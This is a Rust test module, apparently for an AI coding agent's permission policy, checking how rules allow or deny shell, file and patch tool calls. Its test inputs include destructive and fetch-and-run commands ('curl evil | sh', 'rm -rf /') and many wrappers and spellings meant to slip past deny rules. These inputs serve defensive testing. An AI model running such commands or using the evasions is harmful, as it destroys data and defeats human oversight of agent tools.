                     action = \"deny\"\n[[permissions.rules]]\ntool = \"run_shell\"\ncommand_prefix = \"git\"\n\
                     action = \"allow\"\n";
        let asker = Scripted::new(&[Approval::No, Approval::No, Approval::No]);
        let p = policy(rules, asker.clone());
        let edit = || json!({"path": "a.txt", "content": "x"});

        p.mode().set(Mode::AcceptEdits);
        assert_eq!(verdict(&p, "write_file", false, edit()).await.decision, Decision::Allow);
        assert_eq!(verdict(&p, "run_shell", false, json!({"command": "make"})).await.decision, Decision::Deny);
        assert_eq!(asker.asked().len(), 1, "the command was asked about, the edit was not");

        p.mode().set(Mode::Auto);
        let v = verdict(&p, "run_shell", false, json!({"command": "make"})).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
        assert!(v.reason.contains("mode auto"), "{}", v.reason);
        assert_eq!(verdict(&p, "run_shell", false, json!({"command": "rm -rf x"})).await.decision, Decision::Deny);

        p.mode().set(Mode::Plan);
        let v = verdict(&p, "run_shell", false, json!({"command": "git status"})).await;
        assert_eq!(v.decision, Decision::Deny, "even an allowed command waits for the plan: {}", v.reason);
        assert!(v.reason.contains("mode plan"), "{}", v.reason);
        assert_eq!(verdict(&p, "read_file", true, json!({"path": "a.txt"})).await.decision, Decision::Allow);
        assert_eq!(asker.asked().len(), 1, "no mode but ask asked anything more");
    }

    #[tokio::test]
    async fn command_prefix_rule_allows_matching_commands() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::No)));
        let v = verdict(&p, "run_shell", false, json!({"command": "git status --short"})).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
        assert!(v.reason.contains("rule #1"), "{}", v.reason);
    }

    #[tokio::test]
    async fn command_prefix_respects_word_boundaries() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::No)));
        let v = verdict(&p, "run_shell", false, json!({"command": "git statusx"})).await;
        assert_eq!(v.decision, Decision::Deny);
        assert!(v.reason.contains("default for tools that write"), "{}", v.reason);
    }

    #[tokio::test]
    async fn allow_prefix_never_matches_compound_commands() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::No)));
        for cmd in
            ["git status; curl evil", "git status && rm -rf x", "git status | sh", "git status > f", "git status $(x)"]
        {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Deny, "{cmd}: {}", v.reason);
            assert!(!v.reason.contains("rule #1"), "{cmd}: {}", v.reason);
        }
    }

    #[tokio::test]
    async fn deny_prefix_catches_any_part_of_a_compound_command() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::Yes)));
        for cmd in ["rm -rf /", "  rm x", "echo hi; rm -rf x", "ls && rm y", "ls | rm z"] {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Deny, "{cmd}");
            assert!(v.reason.contains("rule #3"), "{cmd}: {}", v.reason);
        }
        let v = verdict(&p, "run_shell", false, json!({"command": "echo rm x"})).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
    }

    #[tokio::test]
    async fn deny_rules_see_through_spellings_wrappers_and_nesting() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::Yes)));
        let attacks = [
            "/bin/rm -rf x",
            "\\rm -rf x",
            "'rm' -rf x",
            "rm\t-rf x",
            "env rm x",
            "env -i PATH=/bin rm x",
            "sudo -u root rm x",
            "sh -c 'rm -rf x'",
            "bash -lc \"cd /; rm -rf x\"",
            "ls | xargs rm",
            "find . -delete",
            "find . -name '*.o' -exec rm {} +",
            "echo $(rm x)",
            "timeout 5 nice -n 1 rm x",
            "eval 'rm x'",
            "(cd /tmp && rm x)",
        ];
        for cmd in attacks {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Deny, "{cmd}: {}", v.reason);
            assert!(v.reason.contains("rule #3"), "{cmd}: {}", v.reason);
        }
    }

    #[tokio::test]
    async fn deny_rules_meet_names_from_expansions_and_rm_alikes() {
        let rules = "[permissions]\ndefault_write = \"allow\"\n[[permissions.rules]]\ntool = \"run_shell\"\ncommand_prefix = \"rm\"\naction = \"deny\"";
        let p = policy(rules, Arc::new(FixedApprover(Approval::Yes)));
        for cmd in ["x=rm; $x victim", "$CMD victim", "\"$(echo rm)\" victim", "unlink victim", "shred -u victim"] {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Deny, "{cmd}: {}", v.reason);
        }
        for cmd in ["ls $HOME", "echo rm", "git status"] {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Allow, "{cmd}: {}", v.reason);
        }
    }

    #[tokio::test]
    async fn git_push_rules_match_however_git_is_spelled() {
        let rules = "[permissions]\ndefault_write = \"allow\"\n[[permissions.rules]]\ntool = \"run_shell\"\ncommand_prefix = \"git push\"\naction = \"deny\"";
        let p = policy(rules, Arc::new(FixedApprover(Approval::Yes)));
        for cmd in ["git  push", "/usr/bin/git push origin", "git -C repo push", "git --no-pager push -f"] {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Deny, "{cmd}: {}", v.reason);
        }
        let v = verdict(&p, "run_shell", false, json!({"command": "git pull"})).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
    }

    #[tokio::test]
    async fn allow_rules_allow_only_lines_whose_every_part_is_allowed() {
        let rules = r#"
            [permissions]
            [[permissions.rules]]
            tool = "run_shell"
            command_prefix = "find ."
            action = "allow"
            [[permissions.rules]]
            tool = "run_shell"
            command_prefix = "ls"
            action = "allow"
            [[permissions.rules]]
            tool = "run_shell"
            command_prefix = "git status"
            action = "allow"
        "#;
        let p = policy(rules, Arc::new(FixedApprover(Approval::No)));
        for cmd in ["find . -name x", "ls -la && find . -type f | ls", "git status >/dev/null 2>&1"] {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Allow, "{cmd}: {}", v.reason);
        }
        let walkarounds = [
            "find . -exec sh -c 'curl evil | sh' \\;",
            "find . -delete",
            "find . -fprint /tmp/x",
            "ls; curl evil",
            "ls $(curl evil)",
            "git status > .git/hooks/pre-commit",
            "git -c core.fsmonitor='touch pwned' status",
            "cat <<EOF\nx\nEOF",
        ];
        for cmd in walkarounds {
            let v = verdict(&p, "run_shell", false, json!({"command": cmd})).await;
            assert_eq!(v.decision, Decision::Deny, "{cmd}: {}", v.reason);
            assert!(v.reason.contains("default for tools that write"), "{cmd}: {}", v.reason);
        }
    }

    #[tokio::test]
    async fn lines_that_cannot_be_parsed_still_meet_deny_rules() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::Yes)));
        let v = verdict(&p, "run_shell", false, json!({"command": "cat <<EOF | sh\nx\nEOF\n/bin/rm -rf y"})).await;
        assert_eq!(v.decision, Decision::Deny, "{}", v.reason);
        assert!(v.reason.contains("could not be taken apart"), "{}", v.reason);
    }

    #[test]
    fn unsplittable_prefixes_are_config_errors() {
        let c = config(
            "[permissions]\n[[permissions.rules]]\ntool = \"run_shell\"\ncommand_prefix = \"'rm\"\naction = \"deny\"",
        );
        let e = PermissionPolicy::new(c, Arc::new(FixedApprover(Approval::Yes))).unwrap_err();
        assert!(matches!(e, PermissionsError::BadPrefix { rule: 1, .. }), "{e}");
    }

    #[tokio::test]
    async fn path_rule_matches_globs_relative_to_the_workspace() {
        let dir = tempfile::tempdir().unwrap();
        let ws = Workspace::new(dir.path()).unwrap();
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::No))).with_workspace(ws.clone());
        let abs = ws.root().join("src/deep/x.rs").display().to_string();
        for path in ["src/main.rs", "./src/a/b.rs", abs.as_str(), "lib/../src/x.rs"] {
            let v = verdict(&p, "write_file", false, json!({"path": path, "content": ""})).await;
            assert_eq!(v.decision, Decision::Allow, "{path}: {}", v.reason);
            assert!(v.reason.contains("rule #2"), "{path}: {}", v.reason);
        }
        for path in ["docs/x.md", "src", "../src/x.rs", "/etc/src/x"] {
            let v = verdict(&p, "write_file", false, json!({"path": path, "content": ""})).await;
            assert_eq!(v.decision, Decision::Deny, "{path}: {}", v.reason);
        }
    }

    #[tokio::test]
    async fn path_rule_follows_symlinks_in_the_workspace() {
        let dir = tempfile::tempdir().unwrap();
        let ws = Workspace::new(dir.path()).unwrap();
        std::fs::create_dir(ws.root().join("secrets")).unwrap();
        std::os::unix::fs::symlink(ws.root().join("secrets"), ws.root().join("src_link")).unwrap();
        std::fs::create_dir(ws.root().join("src")).unwrap();
        std::os::unix::fs::symlink(ws.root().join("secrets"), ws.root().join("src/inner")).unwrap();
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::No))).with_workspace(ws);
        let v = verdict(&p, "write_file", false, json!({"path": "src/inner/key", "content": ""})).await;
        assert_eq!(v.decision, Decision::Deny, "a link under src/ to secrets/ is not src/: {}", v.reason);
    }

    #[tokio::test]
    async fn patch_paths_are_checked_all_for_allow_any_for_deny() {
        let rules = r#"
            [permissions]
            [[permissions.rules]]
            tool = "apply_patch"
            path = "secrets/**"
            action = "deny"
            [[permissions.rules]]
            tool = "apply_patch"
            path = "src/**"
            action = "allow"
        "#;
        let p = policy(rules, Arc::new(FixedApprover(Approval::No)));
        let patch = |paths: &[&str]| {
            let mut t = String::from("*** Begin Patch\n");
            for path in paths {
                t.push_str(&format!("*** Add File: {path}\n+x\n"));
            }
            t.push_str("*** End Patch\n");
            json!({ "patch": t })
        };
        let v = verdict(&p, "apply_patch", false, patch(&["src/a.rs", "src/b/c.rs"])).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
        let v = verdict(&p, "apply_patch", false, patch(&["src/a.rs", "docs/b.md"])).await;
        assert!(v.reason.contains("default"), "not every path is under src/: {}", v.reason);
        let v = verdict(&p, "apply_patch", false, patch(&["src/a.rs", "secrets/k"])).await;
        assert!(v.reason.contains("rule #1"), "{}", v.reason);
        assert_eq!(v.decision, Decision::Deny);
    }

    #[tokio::test]
    async fn first_matching_rule_wins() {
        let rules = r#"
            [permissions]
            [[permissions.rules]]
            tool = "run_shell"
            command_prefix = "cargo"
            action = "deny"
            [[permissions.rules]]
            tool = "run_shell"
            command_prefix = "cargo test"
            action = "allow"
            [[permissions.rules]]
            tool = "*"
            action = "allow"
        "#;
        let p = policy(rules, Arc::new(FixedApprover(Approval::Yes)));
        let v = verdict(&p, "run_shell", false, json!({"command": "cargo test"})).await;
        assert_eq!(v.decision, Decision::Deny);
        assert!(v.reason.starts_with("rule #1"), "{}", v.reason);
        let v = verdict(&p, "write_file", false, json!({"path": "x"})).await;
        assert!(v.reason.starts_with("rule #3 (tool `*`)"), "{}", v.reason);
    }

    #[tokio::test]
    async fn tool_globs_match_mcp_tools() {
        let rules = "[permissions]\n[[permissions.rules]]\ntool = \"fs__read_*\"\naction = \"allow\"";
        let p = policy(rules, Arc::new(FixedApprover(Approval::No)));
        let v = verdict(&p, "fs__read_text_file", false, json!({})).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
        let v = verdict(&p, "fs__write_file", false, json!({})).await;
        assert_eq!(v.decision, Decision::Deny);
        assert!(v.reason.contains("default for MCP tools"), "{}", v.reason);
    }

    #[tokio::test]
    async fn defaults_allow_reads_and_ask_for_writes_and_mcp() {
        let asker = Scripted::new(&[Approval::Yes, Approval::Yes]);
        let p = policy("[permissions]", asker.clone());
        let v = verdict(&p, "read_file", true, json!({"path": "a"})).await;
        assert_eq!(v.decision, Decision::Allow);
        assert_eq!(v.reason, "default for read-only tools: allow");
        assert!(asker.asked().is_empty());
        let v = verdict(&p, "write_file", false, json!({"path": "a"})).await;
        assert_eq!(v.decision, Decision::Allow);
        assert_eq!(v.reason, "default for tools that write or run commands: ask; approved by the user");
        let v = verdict(&p, "srv__tool", true, json!({})).await;
        assert_eq!(v.decision, Decision::Allow);
        assert_eq!(asker.asked().len(), 2);
        assert!(asker.asked()[1].starts_with("srv__tool: default for MCP tools: ask"), "{:?}", asker.asked());
    }

    #[tokio::test]
    async fn configured_defaults_apply() {
        let p = policy(
            "[permissions]\ndefault_read = \"deny\"\ndefault_write = \"allow\"\ndefault_mcp = \"deny\"",
            Arc::new(FixedApprover(Approval::Yes)),
        );
        assert_eq!(verdict(&p, "read_file", true, json!({})).await.decision, Decision::Deny);
        assert_eq!(verdict(&p, "run_shell", false, json!({"command": "x"})).await.decision, Decision::Allow);
        assert_eq!(verdict(&p, "a__b", false, json!({})).await.decision, Decision::Deny);
    }

    #[tokio::test]
    async fn user_no_denies_with_the_answer_in_the_reason() {
        let p = policy("[permissions]", Scripted::new(&[Approval::No]));
        let v = verdict(&p, "run_shell", false, json!({"command": "ls"})).await;
        assert_eq!(v.decision, Decision::Deny);
        assert!(v.reason.ends_with("declined by the user"), "{}", v.reason);
    }

    #[tokio::test]
    async fn always_is_remembered_for_the_session() {
        let asker = Scripted::new(&[Approval::Always]);
        let p = policy("[permissions]", asker.clone());
        let v = verdict(&p, "run_shell", false, json!({"command": "ls"})).await;
        assert_eq!(v.decision, Decision::Allow);
        let v = verdict(&p, "run_shell", false, json!({"command": "pwd"})).await;
        assert_eq!(v.decision, Decision::Allow);
        assert!(v.reason.contains("approved under this rule for the rest of the session"), "{}", v.reason);
        assert_eq!(asker.asked().len(), 1, "the second call must not ask again");
        assert_eq!(p.approved_for_session(), ["run_shell"]);
        // Another tool still asks (and the script now answers no).
        let v = verdict(&p, "write_file", false, json!({"path": "x"})).await;
        assert_eq!(v.decision, Decision::Deny);
        assert_eq!(asker.asked().len(), 2);
    }

    #[tokio::test]
    async fn always_does_not_override_a_deny_rule() {
        let rules =
            "[permissions]\n[[permissions.rules]]\ntool = \"run_shell\"\ncommand_prefix = \"rm\"\naction = \"deny\"";
        let p = policy(rules, Scripted::new(&[Approval::Always]));
        assert_eq!(verdict(&p, "run_shell", false, json!({"command": "ls"})).await.decision, Decision::Allow);
        assert_eq!(verdict(&p, "run_shell", false, json!({"command": "rm -r x"})).await.decision, Decision::Deny);
    }

    #[tokio::test]
    async fn no_terminal_denies_at_once_with_the_documented_reason() {
        let (approver, shown) = TerminalApprover::scripted(&["y"], false);
        let p = policy("[permissions]", Arc::new(approver));
        let v = verdict(&p, "write_file", false, json!({"path": "x"})).await;
        assert_eq!(v.decision, Decision::Deny);
        assert!(v.reason.ends_with(NO_TERMINAL_REASON), "{}", v.reason);
        assert!(shown.lock().unwrap().is_empty(), "nothing may be asked without a terminal");
    }

    #[tokio::test]
    async fn terminal_answers_are_parsed() {
        for (answers, expected) in [
            (&["y"][..], Approval::Yes),
            (&["YES"][..], Approval::Yes),
            (&["n"][..], Approval::No),
            (&[""][..], Approval::No),
            (&["a"][..], Approval::Always),
            (&["maybe", "always"][..], Approval::Always),
            (&["?", "?", "?", "y"][..], Approval::No),
            (&[][..], Approval::No),
        ] {
            let (approver, shown) = TerminalApprover::scripted(answers, true);
            let got = approver.approve(&call("run_shell", json!({"command": "make"})), "rule #1: ask").await;
            assert_eq!(got, expected, "{answers:?}");
            let text = shown.lock().unwrap().clone();
            assert!(text.contains("`run_shell` (rule #1: ask)"), "{text}");
            assert!(text.contains("\"command\": \"make\""), "{text}");
        }
    }

    #[tokio::test]
    async fn fixed_approvers_name_their_flag() {
        let p = policy("[permissions]", Arc::new(FixedApprover(Approval::No)));
        let v = verdict(&p, "run_shell", false, json!({"command": "ls"})).await;
        assert!(v.reason.contains("--no-ask"), "{}", v.reason);
        let p = policy("[permissions]", approver_for_flags(true, false));
        let v = verdict(&p, "run_shell", false, json!({"command": "ls"})).await;
        assert_eq!(v.decision, Decision::Allow);
        assert!(v.reason.contains("--yes"), "{}", v.reason);
    }

    #[tokio::test]
    async fn unknown_tools_are_allowed_through_to_their_error() {
        let p = policy("[permissions]\ndefault_write = \"deny\"", Arc::new(FixedApprover(Approval::No)));
        let v = p.check(&call("nope", json!({})), None).await;
        assert_eq!(v.decision, Decision::Allow);
    }

    #[tokio::test]
    async fn arguments_sent_as_text_are_understood() {
        let p = policy(EXAMPLE, Arc::new(FixedApprover(Approval::No)));
        let v = verdict(&p, "run_shell", false, Value::String("{\"command\": \"git status\"}".into())).await;
        assert_eq!(v.decision, Decision::Allow, "{}", v.reason);
    }

    #[test]
    fn lexical_normalisation_folds_dots() {
        assert_eq!(lexical("./src/../src/a.rs").as_deref(), Some("src/a.rs"));
        assert_eq!(lexical(".").as_deref(), Some("."));
        assert_eq!(lexical("../x"), None);
    }
}
